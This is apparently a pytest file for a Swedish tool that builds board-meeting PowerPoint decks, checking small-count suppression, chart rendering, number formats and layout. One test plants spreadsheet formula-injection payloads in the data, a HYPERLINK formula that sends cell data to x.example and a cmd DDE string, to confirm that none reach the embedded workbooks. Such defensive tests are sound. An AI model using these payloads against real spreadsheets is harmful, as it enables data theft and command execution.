"""The board pack (render/deck.py, render/takeaways.py): native charts, the engine's protection, nothing live.

Two databases: the generated sample (year 2025) and the small hand-made association of
tests/fixtures/small_association.py (year 2021). Expected figures come from the metrics layer and
the protection engine (render/protected.py), read independently of the deck's own drawing code.
The rendered deck is checked through LibreOffice: every slide's text inside the slide, no two text
blocks on top of each other.
"""
from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile

import openpyxl
import pandas as pd
import pytest
from pptx import Presentation
from pptx.enum.dml import MSO_FILL
from pptx.util import Inches

from core.database import connect_read, connect_write
from core.vocabulary import SEX_COLUMNS, SEX_LABELS
from metrics import Filters
from metrics.catalog import association_name, coverage, status
from metrics.people import headline, inflow_by_agency, reason_shares
from render.deck import END_SERIES, HIDDEN_SERIES, NOTES, TITLES, build_board_pack, file_name
from render.format import fmt_datetime, fmt_int
from render.protected import Shown
from render.takeaways import cost_takeaway, exits_takeaway, inflow_takeaway, women_target_takeaway
from render.text import coverage_line, describe

Y2025 = Filters.year(2025)
Y2021 = Filters.year(2021)
SLIDES = ["Styrelsemöte – Helår 2025", TITLES["headline"], TITLES["compare"], TITLES["inflow"], TITLES["gender"],
          TITLES["exits"], TITLES["cost"], TITLES["targets"]]


@pytest.fixture(scope="module")
def sample_con(sample_db):
    con = connect_read(sample_db)
    yield con
    con.close()


@pytest.fixture(scope="module")
def small(small_db):
    con = connect_read(small_db)
    yield con
    con.close()


@pytest.fixture(scope="module")
def sample_bytes(sample_con):
    return build_board_pack(sample_con, Y2025, association=association_name(sample_con))


@pytest.fixture(scope="module")
def sample_deck(sample_bytes):
    return Presentation(io.BytesIO(sample_bytes))


@pytest.fixture(scope="module")
def small_deck(small):
    return Presentation(io.BytesIO(build_board_pack(small, Y2021, association="Samordningsförbundet Test")))


def charts(slide):
    return [sh.chart for sh in slide.shapes if sh.has_chart]


def series(chart) -> dict[str, tuple]:
    return {s.name: tuple(s.values) for s in chart.plots[0].series}


def shape_text(slide, name: str) -> str | None:
    hits = [sh.text_frame.text for sh in slide.shapes if sh.name == name and sh.has_text_frame]
    return hits[0] if hits else None


def table_rows(slide) -> list[list[str]]:
    tables = [sh.table for sh in slide.shapes if sh.has_table]
    assert len(tables) == 1
    return [[c.text for c in row.cells] for row in tables[0].rows]


# ---------------------------------------------------------------- structure

def test_deck_has_its_slides_in_order_16_9(sample_deck, small_deck):
    for deck, year in ((sample_deck, 2025), (small_deck, 2021)):
        assert [s.shapes.title.text for s in deck.slides] == [f"Styrelsemöte – Helår {year}", *SLIDES[1:]]
        assert (deck.slide_width, deck.slide_height) == (Inches(13.333), Inches(7.5))


def test_every_shape_stays_inside_the_slide(sample_deck, small_deck):
    for deck in (sample_deck, small_deck):
        for i, slide in enumerate(deck.slides):
            for sh in slide.shapes:
                assert sh.left >= 0 and sh.top >= 0, (i, sh.name)
                assert sh.left + sh.width <= deck.slide_width and sh.top + sh.height <= deck.slide_height, (i, sh.name)


def test_every_slide_names_its_definition_in_the_notes(sample_deck):
    notes = [s.notes_slide.notes_text_frame.text for s in sample_deck.slides]
    assert all(n.strip() for n in notes)
    assert "Deltagare: inskrivna någon gång under perioden" in notes[1]
    assert "föregående period" in notes[2]
    assert "Nya deltagare: start inom perioden" in notes[3]
    assert "Andel kvinnor: kvinnor delat med alla deltagare" in notes[4]
    assert "Avslutade: slut inom perioden" in notes[5]
    assert "budget" in notes[6] and "Kostnad per deltagare" in notes[6]
    assert notes[1] == NOTES["headline"]


def test_title_slide_names_the_association_from_the_data(sample_con, sample_deck):
    title = sample_deck.slides[0]
    assert shape_text(title, "Förbund") == association_name(sample_con)
    lines = shape_text(title, "Urval").split("\n")
    assert lines[0] == "Period: Helår 2025 (2025-01-01 – 2025-12-31)"
    assert lines[1] == f"Urval: {describe(Y2025)}"
    assert lines[2] == (f"Data inlästa {fmt_datetime(status(sample_con)['last_load'])} · "
                        f"{coverage_line(coverage(sample_con))}")
    assert lines[2].endswith("Data t.o.m. 15 januari 2026.")
    assert "<5" in lines[3] and ".." in lines[3]


def test_file_name_and_title_name_the_boards_period():
    from render.deck import deck_title

    assert file_name(Y2025) == "styrelseunderlag-2025.pptx"
    assert deck_title(Filters.tertial(2025, 2)) == "Styrelsemöte – Tertial 2 2025"
    assert deck_title(Filters.interim(2025)) == "Styrelsemöte – Delår (jan–aug) 2025"
    assert file_name(Filters.tertial(2025, 2)) == "styrelseunderlag-2025-05-01_2025-08-31.pptx"


# ---------------------------------------------------------------- figures as the engine decides them

def test_headline_table_is_what_the_engine_shows(sample_con, sample_deck):
    show = Shown(sample_con, Y2025, 5)
    h = headline(sample_con, Y2025)
    rows = {r[0]: r[1:] for r in table_rows(sample_deck.slides[1])[1:]}
    for measure, label in (("participants", "Deltagare"), ("started", "Nya deltagare"), ("exited", "Avslutade")):
        want = []
        for s in SEX_COLUMNS:
            v = show.count(measure, {}, s, h.loc[measure, s])
            want.append({-1: "<5", -2: ".."}.get(v, fmt_int(v)))
        assert rows[label] == want, label


def test_inflow_chart_stacks_sexes_and_draws_hidden_counts(small, small_deck):
    chart = charts(small_deck.slides[3])[0]
    show = Shown(small, Y2021, 5)
    agencies = inflow_by_agency(small, Y2021)
    got = series(chart)
    for s in ("women", "men"):
        want = [None if show.count("started", {"agency": a}, s, v) < 0 else v for a, v in zip(agencies.agency, agencies[s])]
        if any(want):  # a sex with a visible count has its series; one with none has only hatched parts, no legend entry
            assert list(got[SEX_LABELS[s]]) == [None if w is None else pytest.approx(float(w)) for w in want]
        else:
            assert SEX_LABELS[s] not in got
    assert HIDDEN_SERIES in got  # the small association hides counts: drawn, hatched and labelled
    hidden = [s for s in chart.plots[0].series if s.name == HIDDEN_SERIES][0]
    labels = [p.data_label.text_frame.text for i, p in enumerate(hidden.points) if hidden.values[i]]
    assert labels and all(set(lbl.split()) <= {"<5", ".."} for lbl in labels)


def test_no_count_under_the_threshold_is_shown_anywhere(small_deck, sample_deck):
    for deck in (small_deck, sample_deck):
        for slide in deck.slides:
            for chart in charts(slide):
                if chart.plots[0].series[0].values and "kr" not in str(chart.plots[0].series[0].name):
                    for s in chart.plots[0].series:
                        if s.name in (SEX_LABELS["women"], SEX_LABELS["men"], SEX_LABELS["other"], "Utfall"):
                            assert not any(v is not None and float(v).is_integer() and 1 <= v <= 4
                                           and "%" not in str(s.name) for v in s.values if v is not None
                                           and chart.value_axis.tick_labels.number_format == "#,##0"), s.name
            for sh in slide.shapes:
                if sh.has_table:
                    for row in sh.table.rows:
                        for c in list(row.cells)[1:]:
                            assert not re.fullmatch(r"[1-4]", c.text.strip()), c.text


def _end_labels(chart) -> list[str]:
    """The totals written past each stacked bar's end (the invisible, unnamed series)."""
    ends = [s for s in chart.plots[0].series if s.name == END_SERIES]
    assert len(ends) == 1
    return [p.data_label.text_frame.text.strip() for p in ends[0].points]


def test_inflow_bars_are_never_shorter_than_the_truth_and_every_hidden_row_is_marked(sample_con, sample_deck, small,
                                                                                     small_deck):
    """Issue 23: a bar whose total is hidden reaches the largest the total can be (hatched), a `<5` total reaches
    threshold − 1, and the end label carries the total or the mark: no agency reads as zero or as less than it is."""
    for con, deck, f in ((sample_con, sample_deck, Y2025), (small, small_deck, Y2021)):
        show = Shown(con, f, 5)
        agencies = inflow_by_agency(con, f)
        chart = charts(deck.slides[3])[0]
        got = series(chart)
        assert list(chart.plots[0].categories) == list(agencies.agency)  # no mark glued to a name ("Annan (<5)<5")
        ends = _end_labels(chart)
        hidden_rows = 0
        for i, r in enumerate(agencies.itertuples(index=False)):
            drawn = sum(float(v[i] or 0) for name, v in got.items() if name != END_SERIES)
            # (where nothing shown bounds a hidden total, the label says its size is unknown)
            assert drawn >= r.total > 0 or r.total == 0 or ends[i].endswith("(storlek okänd)"), (r.agency, drawn,
                                                                                                 r.total, ends[i])
            cells = {s: show.count("started", {"agency": r.agency}, s, getattr(r, s)) for s in SEX_COLUMNS}
            if any(v < 0 for v in cells.values()):
                hidden_rows += 1
                assert got[HIDDEN_SERIES][i], r.agency  # the hidden part is drawn, hatched
            total = cells["total"]
            want = {-1: "<5", -2: ".."}.get(total, fmt_int(total))
            assert ends[i].startswith(want), (r.agency, ends[i])
        assert hidden_rows  # both databases hide some agency's counts in the year
    hatched = [s for s in charts(sample_deck.slides[3])[0].plots[0].series if s.name == HIDDEN_SERIES][0]
    assert hatched.format.fill.type == MSO_FILL.PATTERNED


def test_exit_reasons_hidden_for_a_sex_are_drawn_hatched_with_their_mark(sample_con, sample_deck):
    """Issue 23: Flyttat, Avbrutit, Avliden had no bar and no mark where a count was hidden, reading as 0 %. Each
    hidden count's share is now a hatched bar, at least as long as the true share, labelled with its mark."""
    show = Shown(sample_con, Y2025, 5)
    r = reason_shares(sample_con, Y2025)
    chart = charts(sample_deck.slides[5])[0]
    by_name = {s.name: s for s in chart.plots[0].series}
    hidden_points = 0
    for sex in ("women", "men", "other"):
        if SEX_LABELS[sex] not in by_name:
            continue
        s = by_name[SEX_LABELS[sex]]
        assert any(v for v in s.values if v is not None)  # no legend entry without a bar
        for i, row in enumerate(r.itertuples()):
            cnt = show.count("exited", {"reason": row.reason}, sex, getattr(row, sex))
            if cnt < 0:
                hidden_points += 1
                assert s.values[i] >= getattr(row, f"{sex}_share") * 100 - 1e-9, (sex, row.reason)
                # and no longer than the reason's total leaves after the other sexes' counts as shown (one for each
                # other `<5`): a board member read men's `..` for "Avliden/övrigt" (16 people) drawn to 41 %
                total = show.count("exited", {"reason": row.reason}, "total", row.total)
                if total >= 0:
                    others = [show.count("exited", {"reason": row.reason}, o, getattr(row, o))
                              for o in ("women", "men", "other") if o != sex]
                    room = total - sum(o for o in others if o >= 0) - sum(1 for o in others if o == -1)
                    exits = show.count("exited", {}, sex, r[sex].sum())
                    assert s.values[i] <= room / exits * 100 + 1e-9, (sex, row.reason)
                assert s.points[i].format.fill.type == MSO_FILL.PATTERNED
                assert s.points[i].data_label.text_frame.text.startswith({-1: "<5", -2: ".."}[cnt])
            elif getattr(row, f"{sex}_share") is not None and s.values[i] is not None:
                assert s.values[i] == pytest.approx(getattr(row, f"{sex}_share") * 100)
    assert hidden_points  # the sample hides some exit reasons by sex


def test_no_series_is_in_the_legend_without_a_bar(sample_deck, small_deck):
    for deck in (sample_deck, small_deck):
        for slide in deck.slides:
            for chart in charts(slide):
                for s in chart.plots[0].series:
                    if s.name != END_SERIES:
                        assert any(v for v in s.values if v is not None), (slide.shapes.title.text, s.name)


def test_cost_bars_are_sorted_by_cost_as_the_takeaway_reads(sample_deck):
    slide = sample_deck.slides[6]
    chart = charts(slide)[0]
    cats = list(chart.plots[0].categories)
    values = [sum(float(s.values[i] or 0) for s in chart.plots[0].series) for i in range(len(cats))]
    assert len(cats) > 2 and values == sorted(values, reverse=True)
    takeaway = shape_text(slide, "Slutsats")
    assert takeaway.index(cats[0]) < takeaway.index(cats[-1])  # "högst i <first bar> … lägst i <last bar>"
    assert f"högst i {cats[0]}" in takeaway and f"lägst i {cats[-1]}" in takeaway


def test_chart_number_formats_are_swedish_in_any_locale(sample_bytes):
    """`#,##0` shows 60,800 kr in an English PowerPoint: the thousands space is a literal in every format."""
    with zipfile.ZipFile(io.BytesIO(sample_bytes)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("ppt/charts/chart"))
    formats = set(re.findall(r'formatCode="([^"]*)"', xml))
    assert formats and not [f for f in formats if "#,#" in f or "0," in f.replace('," tkr', "")], formats
    assert any("# ### ##0" in f and "kr" in f for f in formats), formats


def test_gender_slide_shows_the_largest_initiatives_with_their_targets(sample_deck):
    chart = charts(sample_deck.slides[4])[0]
    cats = list(chart.plots[0].categories)
    assert 0 < len(cats) <= 10
    assert any("mål" in c for c in cats)  # the register's targets are named with the initiative, not drawn as bars


def test_no_chart_has_a_row_without_a_bar(sample_deck, small_deck):
    """A category with no bar and no mark reads as zero (issue 23): every category of every chart has a drawn value
    (a hidden one hatched and marked), else it is not in the chart and the footnote says why."""
    for deck in (sample_deck, small_deck):
        for slide in deck.slides:
            for chart in charts(slide):
                cats = list(chart.plots[0].categories)
                for i, c in enumerate(cats):
                    assert any(s.values[i] is not None for s in chart.plots[0].series if s.name != END_SERIES), \
                        (slide.shapes.title.text, c)  # a true 0 is drawn too: its label says 0 %


def test_embedded_workbooks_hold_no_formula_even_for_hostile_names(small_db, tmp_path):
    db = tmp_path / "inj.duckdb"
    shutil.copy(small_db, db)
    hostile = ['=HYPERLINK("http://x.example/?d="&A2,"Klicka")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    with connect_write(db) as con:
        for old, new in zip(("Alfa", "Beta", "Gamma"), hostile):
            for table in ("enrollments", "anonymous_counts", "budget_lines", "initiatives"):
                con.execute(f"UPDATE {table} SET initiative = ? WHERE initiative = ?", [new, old])
    with connect_read(db) as con:
        data = build_board_pack(con, Y2021, threshold=3)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        books = [z.read(n) for n in z.namelist() if n.endswith(".xlsx")]
    assert books
    for blob in books:
        wb = openpyxl.load_workbook(io.BytesIO(blob))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not any(c.data_type == "f" for c in cells)
        assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")) for c in cells)


def test_an_empty_period_gives_messages_not_charts(sample_con):
    deck = Presentation(io.BytesIO(build_board_pack(sample_con, Filters.year(2001))))
    for slide in list(deck.slides)[3:]:
        assert not charts(slide)


# (the small association's 2021 is too small for its shorter periods to be protected: only the year is shown)
@pytest.mark.parametrize("f", [Filters.interim(2022), Filters.tertial(2022, 1), Filters.tertial(2022, 3)], ids=str)
def test_the_boards_shorter_periods_build_with_no_small_count_shown(small, f):
    """The deck for a delår or a tertial: its key figures are what the engine shows for that period (the view of the
    year's grid), and none of them is a count from 1 to 4."""
    deck = Presentation(io.BytesIO(build_board_pack(small, f, association="Samordningsförbundet Test")))
    rows = {r[0]: r[1:] for r in table_rows(deck.slides[1])[1:]}
    show, h = Shown(small, f, 5), headline(small, f)
    for measure, label in (("participants", "Deltagare"), ("started", "Nya deltagare"), ("exited", "Avslutade")):
        want = [{-1: "<5", -2: ".."}.get(v, fmt_int(v)) for v in
                (show.count(measure, {}, s, h.loc[measure, s]) for s in SEX_COLUMNS)]
        assert rows[label] == want, label
    assert not [c for r in rows.values() for c in r if c.isdigit() and 1 <= int(c) <= 4], rows
    # costs are kept per year: the row says its figure is the year's, not the delår's or the tertial's
    assert f"Kostnad per deltagare (helår {f.start.year})" in rows and "Kostnad per deltagare" not in rows


@pytest.mark.parametrize("f", [Filters(dt.date(2021, 3, 1), dt.date(2021, 9, 30)),
                               Filters(dt.date(2020, 1, 1), dt.date(2021, 12, 31))], ids=str)
def test_a_deck_off_the_years_grid_is_refused_in_swedish(small, f):
    """The deck is always protected, and protection shows the year, its delår and the tertials only."""
    from metrics.suppress import OFF_GRID, OffGrid

    with pytest.raises(OffGrid) as refused:
        build_board_pack(small, f)
    assert refused.value.message == OFF_GRID


# ---------------------------------------------------------------- takeaways (pure)

def _agencies(rows: dict[str, int]) -> pd.DataFrame:
    return pd.DataFrame([{"agency": a, "total": v} for a, v in rows.items()])


def test_inflow_takeaway_never_claims_most_over_a_hidden_count_of_unknown_size():
    assert inflow_takeaway(_agencies({"Kommun": 10, "Region": 10}), 20).startswith("Kommun och Region remitterade flest")
    assert "flest" in inflow_takeaway(_agencies({"Kommun": 10, "Region": -1}), 13)  # `<5` cannot be larger
    assert "flest" not in inflow_takeaway(_agencies({"Kommun": 10, "Region": -2}), 30)  # `..` might be
    assert inflow_takeaway(_agencies({"Kommun": 10}), -2) == "Kommun remitterade 10 nya deltagare."


def test_women_target_takeaway_uses_register_targets_only():
    w = pd.DataFrame({"initiative": ["A", "B"], "share": [0.3, 0.8], "target": [0.5, 0.5], "registered": [False, False]})
    assert "jämfört med 50" in women_target_takeaway(w, 0.55) and "mål" not in women_target_takeaway(w, 0.55).split(",")[0]
    w["registered"] = [True, False]
    assert women_target_takeaway(w, 0.55).startswith("A ligger längst från sitt mål")
    w["share"] = [None, 0.8]
    assert "inga mål" in women_target_takeaway(w, 0.55)


def test_exits_and_cost_takeaways_leave_out_what_is_hidden():
    assert exits_takeaway({"total": None}, 12).startswith("De avslutade är för få")
    assert exits_takeaway({"total": 0.4, "women": 0.5, "men": None, "other": None}, 12) == \
        "Andelen avslutade till arbete eller studier var 40,0\u00a0%: kvinnor 50,0\u00a0%."
    assert exits_takeaway({"total": None}, 0) == "Inga avslut ännu under perioden."
    c = pd.DataFrame({"initiative": ["A", "B"], "shown": [None, 1000.0], "basis": ["utfall", "budget"]})
    assert cost_takeaway(c, None) == "Kostnaden per deltagare var 1\u00a0000\u00a0kr, budget i B."


# ---------------------------------------------------------------- rendered

def _boxes(pdf: bytes, tmp_path) -> list[tuple[int, float, float, list[tuple[float, float, float, float]]]]:
    """Per page: its width, height and the bounding boxes of its words (pdftotext -bbox-layout). Words, not
    pdftotext's blocks: a block is the union of lines it groups (a column of a chart's data labels), and two such
    unions can cross where no text does."""
    (tmp_path / "deck.pdf").write_bytes(pdf)
    html = subprocess.run(["pdftotext", "-bbox-layout", str(tmp_path / "deck.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout
    pages = []
    for m in re.finditer(r'<page width="([\d.]+)" height="([\d.]+)">(.*?)</page>', html, re.S):
        blocks = [tuple(float(x) for x in b) for b in re.findall(
            r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">', m[3])]
        pages.append((len(pages), float(m[1]), float(m[2]), blocks))
    return pages


def test_rendered_slides_keep_text_inside_and_apart(sample_bytes, tmp_path):
    """LibreOffice renders the deck; every word lies on its slide and no two words overlap."""
    (tmp_path / "deck.pptx").write_bytes(sample_bytes)
    subprocess.run(["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path),
                    str(tmp_path / "deck.pptx")], check=True, capture_output=True, timeout=180,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    pages = _boxes((tmp_path / "deck.pdf").read_bytes(), tmp_path)
    assert len(pages) == len(SLIDES)
    text = subprocess.run(["pdftotext", "-layout", str(tmp_path / "deck.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout.split("\f")
    # Swedish amounts wherever opened, and "procentenheter" whole on its line
    assert re.search(r"\d{1,3}[ \u00a0]\d{3}[ \u00a0]kr", text[6]) and not re.search(r"\d,\d{3}", text[6]), text[6]
    assert re.search(r"[+-−]\d+,\d[ \u00a0]procentenheter", text[2]), text[2]
    # every hidden exit count is marked on the rendered slide (its label), beside the footnote's legend
    chart = [sh.chart for sh in Presentation(io.BytesIO(sample_bytes)).slides[5].shapes if sh.has_chart][0]
    hidden = [p.data_label.text_frame.text for s in chart.plots[0].series for i, p in enumerate(s.points)
              if s.values[i] is not None and p.format.fill.type == 2]  # MSO_FILL.PATTERNED
    assert hidden
    assert text[5].count("<5") + text[5].count("..") >= len(hidden) + 2, text[5]
    for i, w, h, blocks in pages:
        assert blocks, i
        for x0, y0, x1, y1 in blocks:
            assert 0 <= x0 and x1 <= w + 0.5 and 0 <= y0 and y1 <= h + 0.5, (i, (x0, y0, x1, y1))
        for a in range(len(blocks)):
            for b in range(a + 1, len(blocks)):
                ax0, ay0, ax1, ay1 = blocks[a]
                bx0, by0, bx1, by1 = blocks[b]
                # a word's box holds its line's ascent and descent: two lines of a paragraph, or the labels of two
                # bars side by side, share up to a third of their boxes' height with their glyphs apart; text that
                # runs into other text shares most of it
                overlap = min(ax1, bx1) - max(ax0, bx0) > 2 \
                    and min(ay1, by1) - max(ay0, by0) > 0.4 * min(ay1 - ay0, by1 - by0)
                assert not overlap, (SLIDES[i], blocks[a], blocks[b])


def test_the_deck_does_not_compare_with_a_period_the_data_cover_only_in_part(tmp_path):
    """Issue 23 §3: exports of 2021 hold 2020 only as their tail; the deck's comparison says so instead of a change,
    and its title slide says how far the data reach."""
    import io as _io

    from pptx import Presentation as _P

    from core.database import connect_read
    from metrics import Filters
    from render.deck import build_board_pack
    from tests.test_metrics_compare import _stub_and_tail

    with connect_read(_stub_and_tail(tmp_path)) as con:
        deck = _P(_io.BytesIO(build_board_pack(con, Filters.year(2021))))
    texts = [[sh.text_frame.text for sh in slide.shapes if sh.has_text_frame] for slide in deck.slides]
    assert any("Data t.o.m. 30 mars 2022" in t for t in texts[0])
    compare = next(slide for slide in deck.slides for sh in slide.shapes
                   if sh.has_table and sh.table.cell(0, len(sh.table.columns) - 1).text == "Förändring")
    table = next(sh.table for sh in compare.shapes if sh.has_table)
    cells = [[c.text for c in row.cells] for row in table.rows]
    assert cells[0][1:] == ["2021", "2020", "Förändring"]
    assert all(row[2] == "–" and row[3] == "–" for row in cells[1:]), cells
    notes = " ".join(sh.text_frame.text for sh in compare.shapes if sh.has_text_frame)
    assert "Ingen jämförelse med 2020" in notes


def test_the_last_slide_lists_the_initiatives_under_their_targets_as_overview_does(sample_con, sample_deck):
    """Issue 23 §8: the board sees which initiatives are below target, with the gap, not only strokes on a chart;
    the rows are those Översikt lists (render.targets), each count as protection shows it."""
    from render.deck import _target_rows
    from render.protected import Shown
    from render.targets import below_targets

    slide = sample_deck.slides[-1]
    assert slide.shapes.title.text == TITLES["targets"]
    table = next(sh.table for sh in slide.shapes if sh.has_table)
    cells = [[c.text for c in row.cells] for row in table.rows]
    assert cells[0] == ["", "Mål för", "Utfall", "Mål", "Avvikelse"]
    expected = below_targets(_target_rows(sample_con, Y2025, Shown(sample_con, Y2025, 5)), calendar_year=True)
    assert len(expected) >= 3
    from render.deck import SHORT_TARGET
    assert cells[1:] == [[r[0], SHORT_TARGET[r[1]], *r[2:]] for r in expected.head(5).itertuples(index=False)]
    assert all(row[4].startswith("\u2212") for row in cells[1:])  # every gap is a shortfall
